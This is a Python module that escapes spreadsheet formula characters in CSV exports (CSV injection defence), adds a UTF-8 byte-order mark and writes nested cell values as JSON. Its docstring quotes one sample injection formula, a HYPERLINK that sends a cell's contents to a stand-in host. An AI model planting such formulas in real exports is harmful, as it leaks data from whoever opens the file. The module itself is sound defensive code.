"""Cells and text of the tables mcalc writes for people: CSV safe to open in a spreadsheet,
nested values as JSON.

Excel, LibreOffice and Google Sheets take a cell that starts with ``=``, ``+``, ``-`` or
``@`` (also after a tab or carriage return) for a formula: a comment typed by one reader,
``=HYPERLINK("http://x/?"&A2, "see")``, ran on the machine of whoever opened the audit
export (OWASP "CSV injection"). Such a cell is written with a leading ``'``, which makes
the spreadsheet take it for text (OWASP's advice); :func:`unescape_cell` takes it off
again when mcalc reads its own CSV back.

Every CSV mcalc writes (:func:`csv_text`) is UTF-8 with a byte-order mark: Excel opens a
CSV without one in the machine's legacy code page, so a reader named ``José`` reads
``JosÃ©``; pandas, readr and data.table skip the mark, and mcalc's own readers read
``utf-8-sig``. A nested value in a cell (a list, a mapping) is JSON text (:func:`json_cell`),
never Python's notation, with no ``NaN`` (``null``).

Example:
    >>> escape_cell("=1+1"), escape_cell("-0.5"), escape_cell("benign")
    ("'=1+1", "'-0.5", 'benign')
    >>> unescape_cell(escape_cell("=1+1"))
    '=1+1'
    >>> json_cell({"auc": float("nan"), "classes": ["a", "b"], "reader": "José"})
    '{"auc":null,"classes":["a","b"],"reader":"José"}'
"""

from __future__ import annotations

import json
import math
from collections.abc import Mapping
from typing import Any

import numpy as np
import pandas as pd

__all__ = ["BOM", "escape_cell", "unescape_cell", "escape_frame", "csv_text", "json_cell"]

#: The UTF-8 byte-order mark every CSV mcalc writes starts with (Excel reads UTF-8 by it).
BOM = "\ufeff"

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: Any) -> Any:
    """``value`` with a ``'`` before it when it is text a spreadsheet would run; anything
    else (numbers, ``None``) as it is."""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def unescape_cell(value: str) -> str:
    """The text :func:`escape_cell` escaped, as it was; other text as it is."""
    if value.startswith("'") and value[1:].startswith(_FORMULA_START):
        return value[1:]
    return value


def escape_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are escaped (:func:`escape_cell`); numeric
    columns are left as they are (a negative score stays a number)."""
    out = frame.copy()
    for name in out.columns:
        if not pd.api.types.is_numeric_dtype(out[name]) and not pd.api.types.is_bool_dtype(
            out[name]
        ):
            out[name] = out[name].map(escape_cell)
    return out


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as the text of a CSV file for people: a byte-order mark, a header, its text
    cells escaped (:func:`escape_frame`), missing values empty, ``\\n`` line ends, no index.
    Encode it as UTF-8.

    Example:
        >>> csv_text(pd.DataFrame({"reader": ["=ann"], "score": [None]}))
        "\\ufeffreader,score\\n'=ann,\\n"
    """
    return BOM + escape_frame(frame).to_csv(index=False, lineterminator="\n")


def _plain(value: Any) -> Any:
    if isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, float):
        return value if math.isfinite(value) else None
    if isinstance(value, Mapping):
        return {str(k): _plain(v) for k, v in value.items()}
    if isinstance(value, list | tuple | np.ndarray):
        return [_plain(v) for v in value]
    return value


def json_cell(value: Any) -> str:
    """``value`` as compact JSON text for one cell of a table: lists and mappings as JSON
    (``json.loads`` reads them back; never Python's ``{'a': 1}``), a non-finite number as
    ``null``, non-ASCII text as it is.

    Raises:
        TypeError: ``value`` holds something JSON has no form for.
    """
    return json.dumps(_plain(value), ensure_ascii=False, separators=(",", ":"), allow_nan=False)
